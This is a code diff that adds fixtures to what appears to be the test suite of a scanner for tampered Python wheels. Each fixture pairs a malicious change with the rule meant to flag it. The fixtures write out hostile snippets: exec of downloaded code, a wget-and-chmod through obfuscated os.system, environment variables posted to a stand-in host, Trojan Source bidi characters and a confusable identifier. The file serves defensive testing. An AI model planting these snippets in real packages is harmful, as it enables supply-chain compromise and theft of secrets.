@@ -112,6 +112,107 @@ def json_payload() -> str:
     return json.dumps({"settings": base64.b64encode(CHAIN_SOURCE.encode()).decode()})
 
 
+# (sample, files changed or added in the honest wheel, the rule that must catch it)
+TAMPERED_WHEELS: list[tuple[str, dict[str, str | bytes], str]] = [
+    (
+        "changed module downloads and runs a binary (8.3.41)",
+        {"demo/downloads.py": RUNNER},
+        "inspect-download-exec",
+    ),
+    (
+        "wget of xmrig and nohup in __init__.py (8.3.46)",
+        {"demo/__init__.py": MINER_INIT},
+        "inspect-miner",
+    ),
+    ("added .pth that pipes curl into sh", {"demo-init.pth": PTH_SHELL}, "inspect-pth"),
+    (
+        "base64 -> zlib -> exec chain",
+        {"demo/_compat.py": encoded_chain()},
+        "inspect-decode-exec",
+    ),
+    (
+        "payload hidden under dist/",
+        {"dist/helper.py": CHAIN_SOURCE},
+        "inspect-download-exec",
+    ),
+    (
+        "payload hidden in a .json file",
+        {"demo/data/config.json": json_payload()},
+        "inspect-download-exec",
+    ),
+    ("payload in a .md file", {"demo/NOTES.md": CHAIN_SOURCE}, "inspect-download-exec"),
+    (
+        "credential file sent over the network",
+        {"demo/telemetry.py": EXFIL},
+        "inspect-credential-exfil",
+    ),
+    (
+        "native binary in a pure wheel",
+        {"demo/_speedups.bin": b"\x7fELF\x02\x01\x01" + bytes(64)},
+        "inspect-native-in-pure",
+    ),
+    (
+        "discord webhook with its token",
+        {
+            "demo/notify.py": 'URL = "https://discord.com/api/webhooks/123456789012/'
+            + "a" * 40
+            + '"\n'
+        },
+        "inspect-webhook",
+    ),
+    (
+        "bidi control in code (Trojan Source)",
+        {
+            "demo/admin.py": 'access = "user"\n'
+            'if access != "none\u202e \u2066# admin\u2069 \u2066":\n    pass\n'
+        },
+        "inspect-unicode",
+    ),
+    (
+        "confusable identifier",
+        {"demo/auth.py": "def is_\u0430dmin(user):\n    return False\n"},
+        "inspect-unicode",
+    ),
+    (
+        "fullwidth exec of decoded data",
+        {
+            "demo/x.py": "import base64\n"
+            "\uff45\uff58\uff45\uff43(base64.b64decode('cHJpbnQoMSk='))\n"
+        },
+        "inspect-decode-exec",
+    ),
+    (
+        "exec of a downloaded page",
+        {
+            "demo/update.py": "import urllib.request\n"
+            "exec(urllib.request.urlopen('http://127.0.0.1:9/u').read())\n"
+        },
+        "inspect-remote-exec",
+    ),
+    (
+        "obfuscated import of os.system",
+        {
+            "demo/y.py": "getattr(__import__('os'), 'system')"
+            "('wget http://example.invalid/a -O /tmp/a; chmod +x /tmp/a')\n"
+        },
+        "inspect-download-exec",
+    ),
+    (
+        "environment dumped to a server",
+        {
+            "demo/z.py": "import os, requests\n"
+            "requests.post('http://example.invalid', json=dict(os.environ))\n"
+        },
+        "inspect-credential-exfil",
+    ),
+    (
+        "connects when imported",
+        {"demo/__init__.py": "import socket\nsocket.create_connection(('127.0.0.1', 9))\n"},
+        "inspect-import-time",
+    ),
+]
+
+
 def make_repository(root: Path, files: dict[str, str] | None = None, tag: str = "v1.0.0") -> Path:
     """A git repository holding the honest project, tagged at its version."""
     root.mkdir(parents=True, exist_ok=True)
